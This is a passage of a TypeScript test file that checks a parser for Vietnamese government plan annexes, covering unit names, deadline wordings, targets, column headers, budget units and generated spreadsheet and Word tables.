// Annexes of plans as offices write them: deadlines, targets, units and columns in all spellings, and whole files of every shape.
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { Invalid } from '../src/errors.ts'
import { fieldOf, mapColumns } from '../src/annex/columns.ts'
import { domainOf, officialDomains } from '../src/annex/domains.ts'
import { moneyUnit, readMoney } from '../src/annex/money.ts'
import { readAnnex } from '../src/annex/reading.ts'
import { readDeadline } from '../src/annex/deadline-words.ts'
import { readTables } from '../src/annex/sheet-docx.ts'
import { readSheets } from '../src/annex/sheet-xlsx.ts'
import { readTarget } from '../src/annex/target-words.ts'
import { understand, type AnnexRead } from '../src/annex/understanding.ts'
import { unitReader } from '../src/annex/units.ts'
import { deadlineSchema } from '../src/calendar/deadlines.ts'
import { docxOf, xlsxOf, type Made } from './office-files.ts'
import { realData } from './real-data.ts'
import { codeOf, divisions, services, units } from './short-units.ts'

// What is written | units by code | bodies outside | ? where a person is asked.
test.each(`
VP Sở | VP
Văn phòng Sở | VP
VP  Sở | VP
Văn Phòng | VP
VĂN PHÒNG SỞ | VP
Van phong So | VP
Thanh tra Sở | TTr
TTr Sở | TTr
P. NCC | NCC
P.NCC | NCC
Phòng NCC | NCC
phòng Người có công | NCC
Phòng Người⏎có công | NCC
P. BTXH-TE | TE
P.BTXH - TE | TE
Phòng BTXH&TE | TE
P. VL-ATLĐ | VL
P.VLATLĐ | VL
Phòng Việc làm - ATLĐ | VL
Phòng Việc làm và An toàn lao động | VL
P. KHTC | KHTC
KH-TC | KHTC
Phòng Kế hoạch – Tài chính | KHTC
P GDNN | GD
TT DVVL | DVVL
TTDVVL | DVVL
Trung tâm DVVL | DVVL
TT. CTXH | CTXH
Cơ sở cai nghiện | CN
CSCN | CN
Cơ sở CNMT | CN
Lãnh đạo Sở | LĐ
Ban Giám đốc Sở | LĐ
Giám đốc Sở | LĐ
Chánh Văn phòng | VP
Trưởng phòng NCC | NCC
Lãnh đạo Phòng GDNN | GD
Giám đốc TT DVVL | DVVL
VP Sở; P. NCC, TT DVVL và Thanh tra | VP NCC DVVL TTr
VP Sở⏎Thanh tra Sở⏎TT CTXH | VP TTr CTXH
VP Sở Thanh tra Sở TT CTXH | VP TTr CTXH
- VP Sở;⏎- P. NCC. | VP NCC
1. VP Sở⏎2. Thanh tra | VP TTr
VP/P. NCC | VP NCC
VP Sở - P. NCC | VP NCC
VP & Thanh tra | VP TTr
P. NCC + P. GDNN | NCC GD
Phòng NCC, BTXH-TE, GDNN | NCC TE GD
Các phòng NCC, GDNN và TT DVVL | NCC GD DVVL
Các phòng: NCC, BTXH-TE | NCC TE
VP Sở (tổng hợp); P. KH-TC (thẩm định) | VP KHTC
Các phòng, đơn vị | *
các phòng, đơn vị thuộc Sở | *
Các phòng và đơn vị trực thuộc | *
Các phòng, ban, đơn vị | *
Phòng, đơn vị thuộc Sở | *
Tất cả các phòng, đơn vị | *
Toàn Sở | *
Trưởng các phòng, đơn vị | *
Lãnh đạo Sở; các phòng, đơn vị | LĐ *
Thanh tra và các phòng, đơn vị | *
Các phòng chuyên môn | ${divisions}
các phòng chuyên môn, nghiệp vụ | ${divisions}
Các phòng chuyên môn, Thanh tra Sở | ${divisions} TTr
Các đơn vị sự nghiệp trực thuộc | ${services}
các ĐVSN | ${services}
Các đơn vị sự nghiệp⏎P. KH-TC | ${services} KHTC
Các phòng chuyên môn⏎Thanh tra | ${divisions} TTr
Các phòng:⏎- NCC⏎- GDNN | NCC GD
Các đơn vị sự nghiệp; P. KH-TC | ${services} KHTC
VP Sở và các đơn vị sự nghiệp | VP ${services}
Các phòng chuyên môn và đơn vị sự nghiệp | ${divisions} ${services}
Các trung tâm | DVVL CTXH
Các phòng, đơn vị có liên quan | * | | ?
Các phòng | ${divisions} | | ?
Các đơn vị trực thuộc | ${services} | | ?
Các phòng, đơn vị (trừ Thanh tra) | * | | ?
Sở Nội vụ |  | Sở Nội vụ
P. NCC; Bưu điện tỉnh | NCC | Bưu điện tỉnh
VNPT Lào Cai; các phòng chuyên môn | ${divisions} | VNPT Lào Cai
UBND các xã, phường; VP | VP | UBND các xã, phường
Văn phòng UBND tỉnh |  | Văn phòng UBND tỉnh
Thanh tra tỉnh; Thanh tra Sở | TTr | Thanh tra tỉnh
Phòng LĐTBXH các huyện |  | Phòng LĐTBXH các huyện
Các sở, ban, ngành |  | Các sở, ban, ngành
Trung tâm Phục vụ hành chính công tỉnh |  | Trung tâm Phục vụ hành chính công tỉnh
Công an tỉnh, Kho bạc Nhà nước |  | Công an tỉnh+Kho bạc Nhà nước
Bộ phận Một cửa |  | Bộ phận Một cửa | ?
Phòng Tài vụ |  | Phòng Tài vụ | ?
Phòng Nguời có công | NCC | | ?
`.trim().split('\n').map(row => row.split('|').map(cell => cell.trim())))('units: %s', (written, wanted = '', outside = '', asked = '') => {
  const { units: found, external, doubts } = unitReader(units, []).parties(written.replaceAll('⏎', '\n'))
  expect(found.map(codeOf).join(' ')).toBe(wanted)
  if (outside && outside !== 'UBND các xã, phường') expect(external.join('+')).toBe(outside)
  expect(doubts.length > 0).toBe(asked === '?')
})

test('units: both roles in one cell, and abbreviations that the file explains', () => {
  const reader = unitReader(units, ['Ghi chú: PA: Phòng Người có công; TT1: Trung tâm Công tác xã hội.'])
  const roles = (text: string) => { const { lead, coordinators } = reader.roles(text); return `${lead.units.map(codeOf).join(' ')} > ${coordinators?.units.map(codeOf).join(' ') ?? '-'}` }
  expect(roles('VP Sở chủ trì, phối hợp với P. NCC, Thanh tra')).toBe('VP > NCC TTr')
  expect(roles('Chủ trì: VP Sở; Phối hợp: các phòng, đơn vị')).toBe('VP > *')
  expect(roles('VP Sở (chủ trì), P. NCC, TT DVVL')).toBe('VP > NCC DVVL')
  expect(roles('Phòng NCC\nPhối hợp: VP Sở, Thanh tra')).toBe('NCC > VP TTr')
  expect(roles('VP Sở')).toBe('VP > -')
  expect(reader.parties('PA; TT1').units.map(codeOf)).toEqual(['NCC', 'CTXH'])
  expect(reader.parties('PA; TT1').doubts).toEqual([])
})

// What is written | kind and value | the rest of it | ? where a person is asked. The plan is of 2026; the meeting was on Monday 13/7/2026.
const spellings = `
15/8/2026 | date 2026-08-15
15/08/26 | date 2026-08-15
15.8.2026 | date 2026-08-15
15-08-2026 | date 2026-08-15
2026-08-15 | date 2026-08-15
15/8 | date 2026-08-15
15.8 | date 2026-08-15
30-9 | date 2026-09-30
ngày 15/8 | date 2026-08-15
Trước ngày 15/8/2026 | date 2026-08-15
trước 15/8 | date 2026-08-15
Trước ngày 15 tháng 8 năm 2026 | date 2026-08-15
15 tháng 8 | date 2026-08-15
ngày 15 tháng Tám năm 2026 | date 2026-08-15
Chậm nhất 15/8/2026 | date 2026-08-15
Chậm nhất là ngày 15/8 | date 2026-08-15
Hoàn thành trước 15/8/2026 | date 2026-08-15
Xong trước ngày 15/8/2026 | date 2026-08-15
Đến hết ngày 15/8/2026 | date 2026-08-15
Trong ngày 11/8/2026 | date 2026-08-11
Trước 17 giờ 00 ngày 14/8/2026 | date 2026-08-14 | time 17:00
trước 17h30 ngày 14/8 | date 2026-08-14 | time 17:30
Từ 01/4/2026 đến 30/9/2026 | date 2026-09-30 | from 2026-04-01
01/4 - 30/11/2026 | date 2026-11-30 | from 2026-04-01
Từ ngày 01/7 đến ngày 31/7/2026 | date 2026-07-31 | from 2026-07-01
từ 01 đến 15/7/2026 | date 2026-07-15 | from 2026-07-01
1-15/7 | date 2026-07-15 | from 2026-07-01
01/12 - 31/01/2027 | date 2027-01-31 | from 2026-12-01
Từ tháng 3 đến 30/10/2026 | date 2026-10-30 | from 2026-03-01
15/12/2026 (dự kiến) | date 2026-12-15
trước 15/12 hằng năm | date 2026-12-15
Tháng 6 | month 2026-06
Tháng 6/2026 | month 2026-06
Tháng 06 năm 2026 | month 2026-06
T6/2026 | month 2026-06
T6 | month 2026-06
6/2026 | month 2026-06
06-2026 | month 2026-06
tháng Sáu | month 2026-06
Tháng mười hai | month 2026-12
Trong tháng 8/2026 | month 2026-08
Cuối tháng 8 | month 2026-08
Hết tháng 10 | month 2026-10
Tháng 4 - Tháng 5 | month 2026-05 | from 2026-04
Tháng 4, 5 | month 2026-05 | from 2026-04
Tháng 4-5/2026 | month 2026-05 | from 2026-04
Từ tháng 3 đến tháng 10/2026 | month 2026-10 | from 2026-03
Tháng 3 đến hết tháng 6 | month 2026-06 | from 2026-03
Tháng 11/2026 - tháng 02/2027 | month 2027-02 | from 2026-11
Quý II | quarter 2026-Q2
Quý 2 | quarter 2026-Q2
Quí II | quarter 2026-Q2
quý hai | quarter 2026-Q2
Quý II/2026 | quarter 2026-Q2
Quý II năm 2026 | quarter 2026-Q2
Q2/2026 | quarter 2026-Q2
QUÝ IV | quarter 2026-Q4
Cuối quý II | quarter 2026-Q2
Trong quý III/2026 | quarter 2026-Q3
Quý II - Quý III | quarter 2026-Q3 | from 2026-Q2
Quý II, III/2026 | quarter 2026-Q3 | from 2026-Q2
Quý II và Quý III | quarter 2026-Q3 | from 2026-Q2
quý I-IV | quarter 2026-Q4 | from 2026-Q1
từ quý II đến hết quý IV | quarter 2026-Q4 | from 2026-Q2
6 tháng đầu năm | half 2026-H1
06 tháng đầu năm 2026 | half 2026-H1
Sáu tháng cuối năm | half 2026-H2
6 tháng cuối năm 2026 | half 2026-H2
nửa đầu năm | half 2026-H1
Năm 2026 | year 2026
2026 | year 2026
Cả năm | year 2026
Trong năm | year 2026
Trong năm 2026 | year 2026
Cuối năm 2026 | year 2026
Hết năm | year 2026
Hằng năm | year 2026
1 lần/năm | year 2026
2026 - 2030 | year 2030 | from 2026
Hằng tháng | recurring monthly
Hàng tháng | recurring monthly
hằng tuần | recurring weekly
Mỗi quý | recurring quarterly
Hằng quý | recurring quarterly
Định kỳ hằng quý | recurring quarterly
Định kỳ quý | recurring quarterly
Theo quý | recurring quarterly
3 tháng/lần | recurring quarterly
03 tháng một lần | recurring quarterly
01 lần/quý | recurring quarterly
4 lần/năm | recurring quarterly
Quý, 6 tháng, năm | recurring quarterly
6 tháng/lần | recurring half_yearly
6 tháng một lần | recurring half_yearly
Định kỳ 6 tháng | recurring half_yearly
02 lần/năm | recurring half_yearly
6 tháng, năm | recurring half_yearly
Định kỳ 6 tháng, năm | recurring half_yearly
6 tháng đầu năm và 6 tháng cuối năm | recurring half_yearly
Ngày 20 hằng tháng | recurring monthly | day 20
Chậm nhất ngày 25 hằng tháng | recurring monthly | day 25
Hằng tháng, trước ngày 05 tháng sau | recurring monthly | day 5 month_offset 1
Hằng quý, chậm nhất ngày 15 của tháng đầu quý sau | recurring quarterly | day 15 month_offset 1
Trước ngày 20 tháng cuối quý | recurring quarterly | day 20
ngày 20 của tháng cuối quý | recurring quarterly | day 20
thứ Sáu hằng tuần | recurring weekly | weekday 5
Thứ 6 hàng tuần | recurring weekly | weekday 5
10/3; 10/6; 10/9; 10/12/2026 | recurring dates | dates 2026-03-10,2026-06-10,2026-09-10,2026-12-10
Trước 15/6 và 15/12 | recurring dates | dates 2026-06-15,2026-12-15
Tháng 3, 6, 9, 12 | recurring months | months 2026-03,2026-06,2026-09,2026-12
Tháng 6 và tháng 12 | recurring months | months 2026-06,2026-12
Thường xuyên | continuous
thường xuyên trong năm | continuous
Liên tục | continuous
Thường xuyên (ngay khi văn bản được ban hành) | continuous
Sau khi UBND tỉnh ban hành Kế hoạch | event UBND tỉnh ban hành Kế hoạch
Ngay sau khi có hướng dẫn của Bộ | event có hướng dẫn của Bộ
trong 10 ngày làm việc kể từ ngày Sở Tài chính có văn bản | event Sở Tài chính có văn bản | offset {"days":10,"working":true}
30 ngày sau khi kế hoạch được duyệt | event kế hoạch được duyệt | offset {"days":30,"working":false}
trước kỳ giao ban tới | event kỳ giao ban tới
tại kỳ giao ban tháng 11/2026 | event kỳ giao ban tháng 11/2026
trong tuần này | date 2026-07-17
trong tuần tới | date 2026-07-24
thứ Ba tuần tới | date 2026-07-21
trong tháng | month 2026-07
tháng sau | month 2026-08
trong quý này | quarter 2026-Q3
ngày mai | date 2026-07-14
ngày 5 tháng sau | date 2026-08-05
Trước 15 hằng tháng | recurring monthly | day 15
Hằng tháng (ngày 25) | recurring monthly | day 25
Hằng quý (trước ngày 10 tháng cuối quý) | recurring quarterly | day 10
Hằng tháng, quý, năm | recurring monthly
Theo từng quý | recurring quarterly
Cuối mỗi quý | recurring quarterly
Ngày làm việc cuối cùng của tháng | recurring monthly
ngày 15 các tháng 3, 6 và 12 | recurring months | months 2026-03,2026-06,2026-12 day 15
Tháng 1,4,7,10 | recurring months | months 2026-01,2026-04,2026-07,2026-10
31/3; 30/6; 30/9; 31/12 | recurring dates | dates 2026-03-31,2026-06-30,2026-09-30,2026-12-31
Trước 15/6 (báo cáo 6 tháng), trước 15/12 (báo cáo năm) | recurring dates | dates 2026-06-15,2026-12-15
Quý I, II, III, IV | recurring quarterly
Thường xuyên, liên tục | continuous
Thường xuyên/Hằng năm | continuous
Tháng 12 hằng năm | month 2026-12
T3-T10/2026 | month 2026-10 | from 2026-03
tháng 3 → tháng 10 | month 2026-10 | from 2026-03
Tháng 7 đến 12/2026 | month 2026-12 | from 2026-07
Quý II/2026 - Quý I/2027 | quarter 2027-Q1 | from 2026-Q2
Từ nay đến 30/6/2026 | date 2026-06-30
hạn cuối 30/6 | date 2026-06-30
Chậm nhất sau 05 ngày làm việc kể từ khi có kế hoạch | event có kế hoạch | offset {"days":5,"working":true}
2 tháng/lần | recurring months | months 2026-02,2026-04,2026-06,2026-08,2026-10,2026-12 | ?
2 tuần/lần | recurring weekly | | ?
9 tháng đầu năm | quarter 2026-Q3 | | ?
Tuần 2 tháng 3 | month 2026-03 | | ?
Quý II, IV | recurring months | months 2026-06,2026-12 | ?
Quý IV năm 2026 và năm 2027 | year 2027 | | ?
Khi có yêu cầu | event có yêu cầu | | ?
Theo tiến độ chung | event tiến độ chung | | ?
Đầu quý II | quarter 2026-Q2 | | ?
Trước quý III | quarter 2026-Q3 | | ?
Từ tháng 3 | month 2026-03 | | ?
Sau ngày 15/6 | date 2026-06-15 | | ?
Giữa tháng 6 | month 2026-06 | | ?
Thường xuyên, báo cáo hằng quý | continuous | | ?
12/31/2026 | date 2026-12-31 | | ?
15/6/2062 | date 2062-06-15 | | ?
30/9/2026, sau khi họp | date 2026-09-30 | | ?
31/4/2026 | none | | ?
29/2 | none | | ?
sớm nhất có thể | none | | ?
? | none | | ?
`
test.each(spellings.trim().split('\n').map(row => row.split(' |').map(cell => cell.trim())))('deadlines: %s', (written, wanted = '', rest = '', asked = '') => {
  const { deadline, doubt } = readDeadline(written, { year: 2026, from: '2026-07-13' })
  expect(deadline ? [deadline.kind, deadline.value].filter(Boolean).join(' ') : 'none').toBe(wanted)
  if (deadline) {
    expect(deadlineSchema.parse(deadline)).toEqual(deadline)
    const { kind: _, value: __, original, ...others } = deadline
    expect(original).toBe(written)
    expect(Object.entries(others).map(([name, value]) => `${name} ${typeof value === 'object' && !Array.isArray(value) ? JSON.stringify(value) : String(value)}`).join(' ')).toBe(rest)
  }
  expect(doubt !== null, doubt ?? 'no doubt').toBe(asked === '?')
})

// Sentence | product | kind number unit | others | ? where a person is asked.
test.each(`
Hồ sơ giải quyết đúng hạn đạt tối thiểu 99% || percent_min 99 %
Mức độ hài lòng đạt từ 95% trở lên || percent_min 95 %
≥ 95% hồ sơ đúng hạn || percent_min 95 %
Tỷ lệ giải ngân đạt 95,5% || percent_min 95.5 %
100% văn bản đi (trừ văn bản mật) được ký số || percent_min 100 %
Tỷ lệ hồ sơ quá hạn không vượt quá 1% || percent_max 1 %
Tỷ lệ hồ sơ trễ hạn dưới 0,5% || percent_max 0.5 %
Tối đa 2% hồ sơ phải bổ sung || percent_max 2 %
Giảm tỷ lệ hồ sơ quá hạn xuống còn 2% || percent_max 2 %
Nâng tỷ lệ hồ sơ trực tuyến từ 60% lên 80% || percent_min 80 %
Nâng tỷ lệ hồ sơ trực tuyến lên 80% || percent_min 80 %
Nâng số TTHC qua bưu chính từ 17 lên 25 TTHC || count 25 TTHC
Giảm 50% số hồ sơ phải bổ sung so với năm 2025 || change -50 %
Rút ngắn thời gian giải quyết, giảm 20% so với năm 2025 || change -20 %
Tăng mức tự bảo đảm chi thường xuyên thêm 5% so với năm 2025 || change 5 %
Tăng nguồn thu sự nghiệp 10% so với năm 2025 || change 10 %
Chỉ số CCHC tăng ít nhất 02 bậc so với năm 2025 || change 2 bậc
Giảm 01 đầu mối cấp phòng || change -1 đầu mối
Tinh giản 02 biên chế || change -2 biên chế
Rút ngắn 02 ngày so với quy định || change -2 ngày
Cắt giảm ít nhất 30% thời gian giải quyết TTHC || change -30 %
Tuyên truyền: mỗi phòng có ít nhất 04 tin, bài/quý || count 4 tin, bài/quý
Tổ chức 01 hội nghị đối thoại || count 1 hội nghị
Số hóa 12.000 hồ sơ người có công || count 12000 hồ sơ
Kiểm tra đột xuất tối thiểu 02 cuộc/năm || count 2 cuộc/năm
Tập huấn kỹ năng số, ít nhất 01 lớp/6 tháng || count 1 lớp/6 tháng
Đưa 30 TTHC lên toàn trình || count 30 TTHC
Xây dựng 3 video, 5 infographic || count 3 video | count 5 infographic
Không để hồ sơ quá hạn || count 0 hồ sơ
Không có công chức, viên chức bị xử lý kỷ luật || count 0 công chức, viên chức
Nâng cấp Trang thông tin theo 03 giai đoạn (khảo sát, nâng cấp, vận hành) || milestone 3 giai đoạn
Báo cáo CCHC quý I, 6 tháng, quý III và năm | 04 báo cáo | count 4 báo cáo
Thanh toán trực tuyến đạt 80% trở lên, trong đó giao dịch đạt từ 30% || percent_min 80 % | percent_min 30 %
Công khai đầy đủ 100% TTHC (179 TTHC) || percent_min 100 %
Tổ chức 02 lớp tập huấn cho 100% công chức || count 2 lớp | percent_min 100 % | ?
Từ 85% đến 90% người dân hài lòng || percent_min 85 % | | ?
Thuộc nhóm 05 cơ quan dẫn đầu || count 5 cơ quan | | ?
Kiểm tra tại 04 đơn vị || count 4 đơn vị | | ?
Khảo sát sự hài lòng | Báo cáo (tối thiểu 300 phiếu) | binary
Duy trì hệ thống theo TCVN ISO 9001:2015 | Bản công bố | binary
Đối khớp dữ liệu với CSDL dân cư (Đề án 06) | Báo cáo | binary
Triển khai Quyết định 766/QĐ-TTg và Bộ chỉ số 766 | Báo cáo | binary
Dịch vụ công theo Quyết định số 282/QĐ-TTg | Danh mục | binary
Kế hoạch CCHC giai đoạn 2026 - 2030 | Kế hoạch | binary
Thực hiện Nghị định 61/2018/NĐ-CP trong 05 ngày làm việc | Báo cáo | binary
Số hóa kết quả, đợt 00002 | Báo cáo | binary
Đề xuất cấp độ 3 an toàn thông tin | Quyết định | binary
Trực hệ thống 24/7 | Báo cáo | binary
Báo cáo năm gửi Sở Nội vụ | Báo cáo | deadline
`.trim().split('\n').map(row => row.split('|').map(cell => cell.trim())))('targets: %s', (title, product = '', wanted = '', others = '', asked = '') => {
  const said = (target: { kind: string; number: number | null; unit: string | null } | null) => (target ? [target.kind, target.number, target.unit].filter(part => part !== null).join(' ') : '')
  const { target, extra, doubt } = readTarget({ title, product: product || null, deadline: 'date' })
  expect(said(target)).toBe(wanted)
  if (others) expect(extra.map(said).join(' + ')).toBe(others)
  expect(doubt !== null).toBe(asked === '?')
})

test('targets in a column of their own', () => {
  const of = (title: string, aim: string, aimUnit: string | null = null) => { const { target, doubt } = readTarget({ title, product: null, aim, aimUnit, deadline: 'year' }); return [target?.kind, target?.number, target?.unit, doubt !== null] }
  expect(of('Hồ sơ giải quyết đúng hạn', '99', '%')).toEqual(['percent_min', 99, '%', false])
  expect(of('Tỷ lệ hồ sơ quá hạn', '≤ 1', '%')).toEqual(['percent_max', 1, '%', false])
  expect(of('Tỷ lệ hồ sơ quá hạn', '1', '%')).toEqual(['percent_max', 1, '%', true])
  expect(of('Tập huấn', '02 lớp')).toEqual(['count', 2, 'lớp', false])
  expect(of('Số TTHC', '25', 'TTHC')).toEqual(['count', 25, 'TTHC', false])
  expect(of('Ban hành kế hoạch', 'Hoàn thành')).toEqual(['binary', null, null, false])
  expect(of('Mức độ hài lòng', '≥95%')).toEqual(['percent_min', 95, '%', false])
})

test.each(`
STT no|TT no|Số TT no|Số⏎TT no|S.T.T no
Nhiệm vụ title|Nhiệm vụ, chỉ tiêu title|Nội dung công việc title|Tiêu chí, nhiệm vụ title|Nội dung, nhiệm vụ title|Công việc title|Hoạt động title|Nhiệm vụ cụ thể title|Chỉ tiêu title
Sản phẩm, kết quả product|Kết quả đầu ra product|Sản phẩm product|Kết quả, sản phẩm dự kiến product|Minh chứng product
Đơn vị chủ trì lead|Cơ quan chủ trì lead|Chủ trì lead|Đơn vị thực hiện lead|Cơ quan, đơn vị thực hiện lead|Đơn vị đầu mối lead|Phòng, đơn vị chủ trì lead|Đơn vị phụ trách lead|Phân công thực hiện lead|Đơn vị lead
Đơn vị phối hợp coordinators|Cơ quan phối hợp coordinators|Phối hợp coordinators|Phân công thực hiện / Phối hợp coordinators
Thời gian hoàn thành deadline|Thời hạn deadline|Thời hạn hoàn thành deadline|Tiến độ deadline|Tiến độ thực hiện deadline|Thời gian thực hiện deadline|Hạn hoàn thành deadline|Thời gian / Hoàn thành deadline|Ngày hoàn thành deadline
Thời gian / Bắt đầu start|Kinh phí (triệu đồng) budget|Dự kiến kinh phí budget|Kinh phí / Nguồn budget_source|Ghi chú note|Lĩnh vực domain
Đơn vị tính target_unit|ĐVT target_unit|Người phụ trách person|Lãnh đạo phụ trách person|Căn cứ pháp lý basis|Thực hiện năm 2025 baseline
`.trim().split(/[\n|]/).map(one => { const at = one.trimEnd().lastIndexOf(' '); return [one.slice(0, at).replace(' / ', '|').replace('⏎', '\n'), one.slice(at + 1).trim()] }))('columns: %s', (header, field) => {
  expect(fieldOf(header!)).toBe(field)
})

test('columns that say the same share it out; a person’s mapping is remembered by the layout', () => {
  expect(mapColumns(['TT', 'Nhiệm vụ', 'Chỉ tiêu', 'Đơn vị chủ trì']).of).toEqual({ no: 0, title: 1, target: 2, lead: 3 })
  expect(mapColumns(['TT', 'Đơn vị thực hiện', 'Cơ quan chủ trì', 'Nội dung']).of).toEqual({ no: 0, coordinators: 1, lead: 2, title: 3 })
  expect(mapColumns(['TT', 'Nội dung', 'Nhiệm vụ cụ thể', 'Thời gian thực hiện', 'Thời gian hoàn thành']).of).toEqual({ no: 0, parent: 1, title: 2, deadline: 4, start: 3 })
  const { fingerprint } = mapColumns(['A', 'B'])
  expect(mapColumns(['a', ' B '], { fingerprint, of: { title: 1 } }).of).toEqual({ title: 1 })
  expect(mapColumns(['a', 'C'], { fingerprint, of: { title: 1 } }).of).toEqual({})
})

test('the seven domains under the names that plans give them', () => {
  const at = (title: string) => { const domain = domainOf(title); return domain && officialDomains.indexOf(domain as typeof officialDomains[number]) }
  const names: [string, number | null][] = [
    ['CÔNG TÁC CHỈ ĐẠO, ĐIỀU HÀNH', 0], ['Công tác chỉ đạo điều hành cải cách hành chính', 0], ['Về chỉ đạo, điều hành CCHC', 0], ['CẢI CÁCH THỂ CHẾ', 1], ['Xây dựng và hoàn thiện thể chế', 1], ['II. Cải cách thể chế', 1],
    ['Cải cách thủ tục hành chính', 2], ['CẢI CÁCH TTHC', 2], ['Kiểm soát thủ tục hành chính', 2], ['Cải cách tổ chức bộ máy', 3], ['Cải cách tổ chức bộ máy hành chính nhà nước', 3], ['Cải  cách chế độ công vụ', 4], ['Xây dựng, nâng cao chất lượng đội ngũ cán bộ, công chức', 4],
    ['Cải cách tài chính công', 5], ['Xây dựng và phát triển Chính phủ điện tử, Chính phủ số', 6], ['Xây dựng chính quyền điện tử, chính quyền số', 6], ['Hiện đại hóa hành chính', 6], ['Chuyển đổi số', 6],
    ['Kiểm soát quy định thủ tục hành chính', null], ['Tiếp nhận, giải quyết thủ tục hành chính', null], ['Nhiệm vụ khác', null], ['Thực hiện chế độ thông tin, báo cáo', null],
  ]
  for (const [title, wanted] of names) expect(at(title), title).toBe(wanted)
})

test('money in the units that offices write', () => {
  const millions = moneyUnit('Kinh phí\n(triệu đồng)')
  expect(millions).toBe(1e6)
  expect(moneyUnit('(*) Kinh phí lấy từ dự toán; đơn vị tính: triệu đồng.')).toBe(1e6)
  expect(moneyUnit('Kinh phí')).toBe(null)
  const of = (words: string, unit: number | null = null) => { const { money, doubt } = readMoney(words, unit); return doubt ? '?' : money?.amount_vnd ?? null }
  expect([of('12', millions), of('15 triệu đồng'), of('1,5 tỷ đồng'), of('240 trđ'), of('5.000.000 đồng'), of('5.000.000 đồng', millions), of('12,5', millions), of('Lồng ghép', millions), of(''), of('500 nghìn đồng'), of('12')])
    .toEqual([12e6, 15e6, 1.5e9, 240e6, 5e6, 5e6, 12.5e6, null, null, 5e5, '?'])
})

const read = (bytes: Uint8Array, name: string) => readAnnex({ name, bytes }, units, { year: 2026 })
const refusal = async (work: Promise<unknown>) => work.then(() => 'accepted', error => { if (error instanceof Invalid) return Object.values(error.errors).join(' '); throw error })
/** One line a row: number, group, title, lead, co-ordinators, deadline, target. */
const lines = ({ rows }: AnnexRead) => rows.map(({ no, group, title, lead, coordinators, deadline, target, doubtful }) =>
  `${no} ${group ?? '-'} ${title} > ${lead && codeOf(lead)} + ${coordinators.map(codeOf).join(' ')} > ${deadline?.value ?? deadline?.kind} > ${target?.number ?? '-'}${doubtful.length ? ` ?${doubtful.join()}` : ''}`)

type Column = 'no' | 'title' | 'product' | 'lead' | 'coordinators' | 'deadline' | 'budget' | 'note'
const tasks: Record<Column, string>[] = [
  { no: '1', title: 'Ban hành Kế hoạch CCHC năm 2026', product: 'Kế hoạch', lead: 'VP Sở', coordinators: 'Các phòng, đơn vị', deadline: 'Trước 28/02/2026', budget: '', note: 'Theo Kế hoạch của tỉnh' },
  { no: '2', title: 'Kiểm tra CCHC tại tối thiểu 30% đơn vị', product: 'Báo cáo', lead: 'Thanh tra Sở', coordinators: 'VP Sở; P. KH-TC', deadline: 'Quý II - Quý III', budget: '12', note: '' },
  { no: '1', title: 'Rà soát 100% TTHC', product: 'Danh mục', lead: 'P. NCC', coordinators: '', deadline: 'Hằng quý', budget: '', note: '' },
  { no: '2', title: 'Tỷ lệ hồ sơ quá hạn không quá 1%', product: '', lead: 'Các phòng, đơn vị', coordinators: 'VP', deadline: 'Thường xuyên', budget: '', note: '' },
]
const expected = [
  '1 G1 Ban hành Kế hoạch CCHC năm 2026 > VP + * > 2026-02-28 > -', '2 G1 Kiểm tra CCHC tại tối thiểu 30% đơn vị > TTr + VP KHTC > 2026-Q3 > 30',
  '1 G2 Rà soát 100% TTHC > NCC +  > quarterly > 100', '2 G2 Tỷ lệ hồ sơ quá hạn không quá 1% > * + VP > continuous > 1',
]
const headers: Record<Column, string[]> = {
  no: ['TT', 'STT', 'Số TT'], title: ['Nhiệm vụ, chỉ tiêu', 'Nội dung công việc', 'Tiêu chí, nhiệm vụ'], product: ['Sản phẩm, kết quả', 'Kết quả đầu ra', 'Sản phẩm dự kiến'],
  lead: ['Đơn vị chủ trì', 'Cơ quan thực hiện', 'Phòng, đơn vị chủ trì'], coordinators: ['Đơn vị phối hợp', 'Cơ quan phối hợp', 'Phối hợp'], deadline: ['Thời gian hoàn thành', 'Tiến độ', 'Thời hạn'],
  budget: ['Kinh phí (triệu đồng)', 'Dự kiến kinh phí (triệu đồng)', 'Kinh phí (trđ)'], note: ['Ghi chú', 'Ghi chú', 'Ghi chú'],
}
const orders: Column[][] = [
  ['no', 'title', 'product', 'lead', 'coordinators', 'deadline', 'budget', 'note'], ['no', 'title', 'lead', 'coordinators', 'deadline', 'product', 'note'],
  ['no', 'deadline', 'title', 'product', 'coordinators', 'lead'], ['no', 'title', 'lead', 'coordinators', 'deadline'],
]
const groupTitles = [['I', 'CÔNG TÁC CHỈ ĐẠO, ĐIỀU HÀNH'], ['II', 'Cải cách thủ tục hành chính']] as const
const groupStyles: Record<string, (no: string, title: string, columns: Column[]) => Made[]> = {
  'number and merged title': (no, title, columns) => columns.map((column, at) => (column === 'no' ? no : at === 1 ? { text: title, over: columns.length - 1, bold: true } : null)),
  'one cell over all': (no, title, columns) => columns.map((_, at) => (at === 0 ? { text: `${no}. ${title}`, over: columns.length } : null)),
  'two cells, not merged': (no, title, columns) => columns.map(column => (column === 'no' ? no : column === 'title' ? title : '')),
  'letters': (no, title, columns) => columns.map(column => (column === 'no' ? (no === 'I' ? 'A' : 'B') : column === 'title' ? title : '')),
  'title alone': (_, title, columns) => columns.map(column => (column === 'title' ? title.toUpperCase() : '')),
}
const variants = orders.flatMap((order, words) => Object.keys(groupStyles).flatMap(style => (['xlsx', 'docx'] as const).map(kind => ({ order, words: words % 3, style, kind }))))

test.each(variants)('a $kind annex with columns $order, groups as $style', async ({ order, words, style, kind }) => {
  const group = (at: number) => groupStyles[style]!(groupTitles[at]![0], groupTitles[at]![1], order)
  const row = (task: Record<Column, string>): Made[] => order.map(column => task[column])
  // In Word every column of the row has a cell; what is merged away is left out.
  const body = [order.map(column => headers[column][words]!), group(0), row(tasks[0]!), row(tasks[1]!), group(1), row(tasks[2]!), row(tasks[3]!)]
  const bytes = kind === 'xlsx'
    ? xlsxOf([{ name: 'PL', rows: [['UBND TỈNH'], ['Phụ lục'], [{ text: 'PHÂN CÔNG NHIỆM VỤ CCHC NĂM 2026', over: order.length }], ['(Kèm theo Kế hoạch số 01/KH-SLĐTBXH ngày 05 tháng 01 năm 2026)'], [], ...body, [], ['Ghi chú: chữ viết tắt như trên']] }])
